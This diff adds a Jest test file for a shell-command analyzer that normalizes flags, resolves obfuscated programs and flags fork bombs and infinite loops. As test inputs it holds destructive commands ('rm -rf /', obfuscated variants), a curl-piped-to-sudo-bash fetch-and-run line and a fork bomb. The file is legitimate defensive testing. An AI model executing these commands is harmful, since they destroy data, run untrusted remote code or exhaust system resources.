@@ -0,0 +1,70 @@
+import { describe, it, expect } from '@jest/globals';
+import { CommandAnalyzer } from '../../core/CommandAnalyzer.js';
+
+function programs(command) {
+  return CommandAnalyzer.analyze(command).commands.map(invocation => invocation.program);
+}
+
+describe('CommandAnalyzer', () => {
+  it('should normalize bundled and separate flags the same way', () => {
+    const [separate] = CommandAnalyzer.analyze('rm  -r -f /').commands;
+    const [bundled] = CommandAnalyzer.analyze('rm -fr /').commands;
+
+    expect([...separate.flags].sort()).toEqual(['force', 'recursive']);
+    expect([...bundled.flags].sort()).toEqual(['force', 'recursive']);
+    expect(bundled.operands).toEqual(['/']);
+  });
+
+  it('should keep long option values out of the program name', () => {
+    const [ls] = CommandAnalyzer.analyze('ls --format=json').commands;
+
+    expect(ls.program).toBe('ls');
+    expect([...ls.flags]).toEqual(['format']);
+  });
+
+  it('should resolve command substitutions and variables used as the program', () => {
+    const [, rm] = CommandAnalyzer.analyze('$(echo rm) -rf /').commands;
+    expect(rm.program).toBe('rm');
+    expect(rm.obfuscated).toBe(true);
+
+    const [variable] = CommandAnalyzer.analyze('X=rm; $X -rf "$HOME"').commands;
+    expect(variable.program).toBe('rm');
+    expect(variable.operands).toEqual(['~']);
+  });
+
+  it('should strip wrappers and track pipeline sources', () => {
+    const [, bash] = CommandAnalyzer.analyze('curl -s https://x.sh | sudo -u root bash').commands;
+
+    expect(bash.program).toBe('bash');
+    expect(bash.wrappers).toEqual(['sudo']);
+    expect(bash.from.map(source => source.program)).toEqual(['curl']);
+  });
+
+  it('should include commands nested in sh -c, find -exec and subshells', () => {
+    expect(programs('sh -c "rm -rf /tmp/x"')).toEqual(['sh', 'rm']);
+    expect(programs('find . -name "*.tmp" -exec rm -f {} \;')).toEqual(['find', 'rm']);
+    expect(programs('(cd build && make)')).toEqual(['cd', 'make']);
+  });
+
+  it('should detect fork bombs and infinite loops', () => {
+    expect(CommandAnalyzer.analyze(':(){ :|:& };:').findings.forkBomb).toBe(true);
+    expect(CommandAnalyzer.analyze('while true; do echo hi; done').findings.infiniteLoop).toBe(true);
+    expect(CommandAnalyzer.analyze('while read line; do echo; done').findings.infiniteLoop).toBe(false);
+  });
+
+  it('should match compiled patterns by subset', () => {
+    const pattern = CommandAnalyzer.compilePattern('rm -rf /');
+    const [match] = CommandAnalyzer.analyze('rm --verbose -f -r /').commands;
+    const [other] = CommandAnalyzer.analyze('rm -rf /tmp/build').commands;
+
+    expect(CommandAnalyzer.matchesPattern(match, pattern)).toBe(true);
+    expect(CommandAnalyzer.matchesPattern(other, pattern)).toBe(false);
+  });
+
+  it('should report parse errors instead of throwing', () => {
+    const analysis = CommandAnalyzer.analyze('echo "unterminated');
+
+    expect(analysis.error).not.toBeNull();
+    expect(analysis.commands).toHaveLength(0);
+  });
+});